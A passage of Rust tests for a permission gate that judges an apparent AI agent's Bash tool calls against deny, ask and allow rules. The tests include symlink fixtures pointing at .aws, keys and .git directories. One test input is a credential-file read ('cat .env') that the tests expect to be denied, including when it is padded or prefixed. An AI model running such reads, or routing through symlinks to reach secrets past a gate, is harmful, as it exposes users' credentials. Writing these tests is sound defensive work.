        (&format!("{cds}cat .env"), 3_000, "", "deny"),
        ("cat", 32_000, ".env", "deny"),
    ] {
        let line = format!("{begins}{} {last}", " a".repeat(words));
        let verdict = decide(&rules, &line, Mode::Default, &[]);
        assert_eq!(verdict, want, "{begins} of {words} {last}");
    }
}

fn decide(rules: &[(&str, &str)], line: &str, mode: Mode, roots: &[&str]) -> String {
    let args = serde_json::to_string(&BTreeMap::from([("command", line)])).unwrap();
    decide_args(rules, &args, mode, roots)
}

fn decide_args(rules: &[(&str, &str)], args: &str, mode: Mode, roots: &[&str]) -> String {
    decide_tool("Bash", rules, args, mode, roots)
}

/// In `/srv/app`, where every path leads where it says, but a few links into `/data` and in `/srv/app`.
fn decide_tool(
    tool: &str,
    rules: &[(&str, &str)],
    args: &str,
    mode: Mode,
    roots: &[&str],
) -> String {
    let mut policy = Policy::empty(Platform::Linux);
    for (effect, rule) in rules {
        let effect = match *effect {
            "deny" => Effect::Deny,
            "ask" => Effect::Ask,
            _ => Effect::Allow,
        };
        policy.add(effect, Layer::User, rule).unwrap();
    }
    let call = Call {
        id: "c1".into(),
        tool: tool.into(),
        args: Args::parse(args).unwrap(),
    };
    let surroundings = Surroundings {
        files: FileFacts {
            cwd: Some("/srv/app".into()),
            home: Some("/home/u".into()),
            roots: Some(roots.iter().map(|root| (*root).to_owned()).collect()),
            realpaths: [
                ("/", "/"),
                ("/p", "/data/p"),
                ("/ln", "/data"),
                ("/srv/app/conf", "/data/conf"),
                ("/home/u/keys", "/data/keys"),
                ("/home/u/.aws", "/data/aws"),
                ("/srv/app/link", "/srv/app/private"),
                ("/srv/app/link2", "/srv/app/.git"),
                ("/srv/app/lnk", "/etc"),
            ]
            .map(|(path, real)| (path.to_owned(), real.to_owned()))
            .into(),
            ..FileFacts::default()
        },
        ..Surroundings::default()
    };
    // An image of the policy says the same.
    let key = SealKey::new(&[7; 32]).unwrap();
    let image = Image::write(&policy, &key, "").unwrap();
    let opened = Image::open(&[], Platform::Linux, &key, image).unwrap();
    let record = |policy: Policy| -> RecordFields {
        let mut deciders = Deciders::new(Arc::new(policy), tool, None, surroundings.clone());
        let input = GateInput::builder(call.clone()).mode(mode).wire(Seat::Park);
        let input = deciders.wire(input).build().unwrap();
        match *drive(begin(input), &mut deciders).unwrap() {
            GateResult::Finished(finished) => finished.record().into(),
            GateResult::Suspended(suspended) => suspended.parked.record().into(),
        }
    };
    let by_image = record(opened.policy);
    let said = record(policy);
    assert_eq!(by_image, said, "{rules:?} {args}");
    said.verdict.to_string()
}
